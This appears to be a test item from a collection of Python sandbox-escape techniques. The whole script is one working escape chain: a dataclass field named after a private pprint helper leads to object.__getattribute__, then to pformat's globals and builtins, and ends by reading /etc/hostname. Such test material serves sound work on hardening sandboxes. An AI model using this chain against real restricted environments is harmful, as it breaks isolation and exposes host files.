# technique: a dataclass field named after a stdlib base's private helper: _get_field reads getattr(cls, name) as the default
# expect: any
import pprint, dataclasses
@dataclasses.dataclass
class P(pprint.PrettyPrinter):
    _pprint_simplenamespace: int
f = dataclasses.fields(P)[0].default
print(type(f), f)
got = []
class Q(pprint.PrettyPrinter):
    def _format_namespace_items(self, items, stream, indent, allowance, context, level):
        got.extend(items)
class S:
    def write(self, s): pass
f(Q(), object, S(), 0, 0, {}, 0)
ga = dict(got)['__getattribute__']
g = ga(pprint.pformat, '__globals__')
print(type(ga), sorted(g)[:8])
b = g['__builtins__']
print(type(b), b['open']('/etc/hostname').read())
